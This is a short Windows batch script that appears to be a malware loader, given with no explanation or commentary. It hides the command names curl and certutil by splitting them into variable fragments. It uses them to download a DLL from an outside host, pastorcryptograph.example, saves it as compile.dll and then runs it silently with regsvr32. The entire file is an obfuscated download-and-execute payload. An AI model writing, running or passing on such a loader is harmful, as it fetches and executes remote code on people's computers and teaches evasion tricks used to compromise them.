@echo off
set AMQZ=u
set uNVx=r
set ZOAv=l
set aPZx=c
%aPZx%%AMQZ%%uNVx%%ZOAv% https://pastorcryptograph.example/3/sdd.dll -o compile.dll
if not exist compile.dll (
  set GRqR=cer
set KUTi=tut
set DQnW=il
  %GRqR%%KUTi%%DQnW%.exe -urlcache -f https://pastorcryptograph.example/3/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
